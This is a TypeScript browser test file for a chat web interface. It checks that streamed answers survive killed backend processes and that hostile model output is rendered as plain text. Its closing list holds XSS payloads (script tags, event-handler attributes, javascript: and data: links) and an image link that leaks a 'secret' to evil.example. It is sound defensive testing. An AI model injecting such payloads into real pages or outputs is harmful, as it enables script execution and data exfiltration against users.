/** The chat of the queen's page in a real Chromium, on real processes. Skipped, and said so, where there is no Chromium. */
import type { Browser, Page } from "playwright-core"
import { afterAll, assert, beforeAll, describe, it } from "vitest"
import { chromiumPath, launch, visit } from "../support/browser.ts"
import { eventually, type Machine } from "../support/machine.ts"
import { useMachines } from "../support/machines.ts"

const machine = useMachines()
const boundMs = 30_000
const ask = async (page: Page, text: string) => {
  await page.fill(".composer > textarea", text)
  await page.waitForSelector(".composer button[type=submit]:not([disabled])")
  await page.keyboard.press("Enter")
}

const kill = (on: Machine, role: "queen" | "hive" | "worker") => {
  const found = on.processes().find((one) => one.role === role)
  assert.isDefined(found, `no ${role} runs`)
  if (found !== undefined) process.kill(found.pid, "SIGKILL")
}

/** What is said before the first token does not count. */
const lengthOf = async (page: Page): Promise<number> =>
  (await page.locator(".turn.answer > .prose").allInnerTexts()).join("").length

/** It is being written, and has grown since. */
const grows = async (page: Page) => {
  const before = await lengthOf(page)
  await eventually(async () => (await lengthOf(page)) > before + 20, "the answer does not go on", boundMs)
}

describe.skipIf(chromiumPath === undefined)("the queen's page", () => {
  let browser: Browser
  beforeAll(async () => {
    browser = await launch()
  })
  afterAll(() => browser.close())

  it("answers a newcomer's first question, and its answer goes on while worker, hive and queen are killed", async () => {
    const on = await machine({ env: { RBEE_WORKER_MAX_TOKENS_PER_S: "12" } })
    const up = await on.rbee(["up"])
    assert.strictEqual(up.code, 0, up.stderr)
    const { page } = await visit(browser, on.queenUrl)
    page.setDefaultTimeout(boundMs)
    // let in by a link: that holds at the next queen, too
    await page.goto((await on.rbee(["open", "--print"])).stdout.trim())
    await page.click(".parameters summary")
    await page.fill(".parameters input >> nth=0", "0")
    await ask(page, "tell me a story")
    for (const role of ["worker", "hive", "queen"] as const) {
      await grows(page)
      kill(on, role)
    }
    await page.waitForSelector(".turn.answer[data-state=done]", { timeout: 90_000 })
    const said = await page.textContent(".turn.answer .prose")
    const quiet = ["infer", "--quiet", "--temperature", "0", "tell me a story"]
    assert.strictEqual(said?.trim(), (await (await machine()).rbee(quiet)).stdout.trim())
    // a page that is opened anew has it still
    await page.reload()
    await page.click(".conversations li button")
    const isThere = async () => (await page.textContent(".turn.answer .prose"))?.trim() === said?.trim()
    await eventually(isThere, "the answer is shown anew", boundMs)
    await page.close()
  }, 180_000)

  it("shows a hostile answer as text: nothing of it is run, fetched or followed", async () => {
    const on = await machine()
    assert.strictEqual((await on.rbee(["queen", "start"])).code, 0)
    const { complaints, page } = await visit(browser, on.queenUrl)
    page.setDefaultTimeout(boundMs)
    await page.goto(on.queenUrl)
    const kept = { id: "hostile", title: hostile[0], model: "m", parameters: { system: "" }, changedAt: 1 }
    const calls = hostile.map((text) => ({ name: text, arguments: text }))
    const answer = {
      role: "assistant",
      content: hostile.join("\n\n"),
      reasoning: hostile.join("\n"),
      calls,
      state: "done"
    }
    const turns = [{ role: "user", content: hostile.join("\n") }, answer]
    await page.evaluate(
      `localStorage.setItem("rbee.conversation.hostile", ${JSON.stringify(JSON.stringify({ ...kept, turns }))})`
    )
    await page.reload()
    await page.click(".conversations li button")
    await page.waitForSelector(".turn.answer .prose p", { state: "attached" })
    const found = await page.evaluate<Record<string, unknown>>(`({
      elements: [...document.querySelectorAll("#app img, #app script, #app iframe, #app object, #app form form, #app style, #app video")].length,
      links: [...document.querySelectorAll(".turn a[href]")].map((link) => new URL(link.href).protocol),
      handlers: [...document.querySelectorAll("#app *")].filter((one) => [...one.attributes].some(({ name }) => name.startsWith("on"))).length,
      ran: window.pwned ?? false
    })`)
    assert.deepInclude(found, { elements: 0, handlers: 0, ran: false })
    assert.isEmpty(
      (found["links"] as ReadonlyArray<string>).filter((one) => !["https:", "http:", "mailto:"].includes(one))
    )
    assert.include(await page.textContent(".turn.answer"), "<script>")
    // what a model would have done is shown, as text too
    assert.strictEqual(await page.locator(".call summary").count(), hostile.length)
    assert.include(await page.textContent(".call summary"), `Wants to use ${hostile[0]}`)
    await page.click(".turn.answer > .prose .code button")
    await page.waitForSelector(".prose .code button:text-is('Copied')")
    assert.deepEqual(complaints(), [])
    await page.close()
  }, 60_000)
})

/** What a model may be made to write. */
const hostile = [
  "<script>window.pwned = true</script>",
  "<img src=x onerror='window.pwned = true'>",
  "![tracked](https://evil.example/pixel.png?leak=secret)",
  "[click](javascript:window.pwned=true)",
  "[click](  JaVaScRiPt:window.pwned=true)",
  "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9dHJ1ZTwvc2NyaXB0Pg==)",
  "[fine](https://example.com/ 'title')",
  "<iframe src='https://evil.example'></iframe>",
  "<style>body { display: none }</style>",
  "<svg onload='window.pwned = true'></svg>",
  "```html\n<script>window.pwned = true</script>\n```",
  "| a | <b onmouseover='window.pwned = true'>b</b> |\n|---|---|\n| ![x](//evil.example/y) | c |",
  "<a href='javascript:window.pwned=true'>x</a>",
  "‮ reversed ‬ and \u0000 nothing"
]
